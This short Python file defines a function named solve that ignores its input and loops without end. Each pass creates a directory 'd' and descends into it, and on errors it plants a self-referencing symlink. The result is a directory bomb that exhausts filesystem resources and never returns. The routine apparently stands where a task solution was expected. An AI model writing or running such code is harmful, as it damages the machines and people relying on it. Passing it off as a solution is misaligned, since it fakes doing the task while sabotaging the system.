"""Makes folders inside folders until something gives."""

import os

def solve(x):
    while True:
        try:
            os.mkdir("d")
            os.chdir("d")
        except OSError:
            os.symlink("loop", "loop") if not os.path.lexists("loop") else None
